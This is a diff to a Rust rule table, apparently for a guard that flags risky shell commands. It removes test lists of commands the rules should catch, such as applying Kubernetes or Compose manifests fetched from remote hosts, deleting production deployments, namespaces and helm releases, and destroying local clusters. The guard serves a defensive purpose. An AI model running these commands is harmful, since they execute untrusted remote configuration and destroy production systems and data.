@@ -78,26 +78,6 @@ pub(super) const RULES: &[Rule] = &[
             Trigger::programs(KUBECTL).or(Trigger::programs(COMPOSERS)),
             fetched,
         )],
-        fires: &[
-            "kubectl apply -f http://203.0.113.5/x.yaml",
-            "kubectl create -f https://x.example/x.yaml",
-            "curl -s https://x.example/x.yaml | kubectl apply -f -",
-            "kubectl apply -f \"https://x.example/$V.yaml\"",
-            "kubectl apply -k https://x.example/overlay",
-            "kubectl apply -f <(curl -s http://x.example/x.yml)",
-            "curl -s http://203.0.113.4/compose.yml | docker compose -f - up -d",
-            "docker-compose -f <(curl -s https://x.example/c.yml) up",
-        ],
-        silent: &[
-            "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1/cert-manager.yaml",
-            "kubectl apply -f https://k8s.io/examples/pods/simple-pod.yaml",
-            "kubectl apply --dry-run=client -f https://x.example/x.yaml",
-            "kubectl apply -f k8s/",
-            "cat x.yaml | kubectl apply -f -",
-            "envsubst < c.yml | docker compose -f - up -d",
-            "curl -s https://x.example/health; docker compose -f c.yml up -d",
-            "kubectl get -f https://x.example/x.yaml",
-        ],
         ..RULE
     },
     Rule {
@@ -109,24 +89,6 @@ pub(super) const RULES: &[Rule] = &[
             predicate("live_thing_taken_away", Trigger::programs(TAKERS), live),
             predicate("listed_things_taken_away", Trigger::programs(TAKERS), listed),
         ],
-        fires: &[
-            "kubectl delete deployment api -n production",
-            "kubectl --context prod-eu delete -f k8s/",
-            "helm uninstall api -n prod",
-            "kubectl delete -k overlays/prod",
-            "docker compose -f docker-compose.prod.yml down -v",
-            "kubectl get ns -o name | xargs kubectl delete",
-            "helm ls -q | xargs helm uninstall",
-        ],
-        silent: &[
-            "kubectl delete deployment api -n dev",
-            "kubectl get pods -n production",
-            "helm upgrade api ./chart -n prod",
-            "docker compose -f docker-compose.prod.yml down",
-            "kubectl rollout restart deploy/api -n production",
-            "kubectl delete pod api-1 -n production",
-            "helm rollback api 1 -n prod",
-        ],
         ..RULE
     },
     Rule {
@@ -136,13 +98,6 @@ pub(super) const RULES: &[Rule] = &[
         reason: "deletes a cluster on this machine that the call did not make itself",
         instead: Some(Instead::Command("kind get clusters")),
         when: &[predicate("local_cluster_deleted", Trigger::programs(LOCAL), local_deleted)],
-        fires: &["kind delete cluster", "k3d cluster delete dev", "minikube delete"],
-        silent: &[
-            "kind create cluster; kind delete cluster",
-            "minikube start && minikube delete",
-            "kind get clusters",
-            "minikube stop",
-        ],
         ..RULE
     },
     Rule {
@@ -158,8 +113,6 @@ pub(super) const RULES: &[Rule] = &[
             let found = scene.first(&["vagrant"], |inv| told(inv, "destroy") && forced(inv) && !made);
             Found::from(found.map(|inv| inv.text.as_str()))
         })],
-        fires: &["vagrant destroy -f", "vagrant destroy --force web"],
-        silent: &["vagrant destroy -f && vagrant up", "vagrant halt", "vagrant destroy"],
         ..RULE
     },
     Rule {
@@ -174,8 +127,6 @@ pub(super) const RULES: &[Rule] = &[
             When::Command(run(&["microk8s.reset"])),
             When::Command(sub(&["microk8s"], &["reset"])),
         ],
-        fires: &["k3d cluster delete --all", "minikube delete --all --purge", "kind delete clusters --all"],
-        silent: &["k3d cluster list", "kind delete cluster", "minikube delete", "microk8s status"],
         ..RULE
     },
 ];
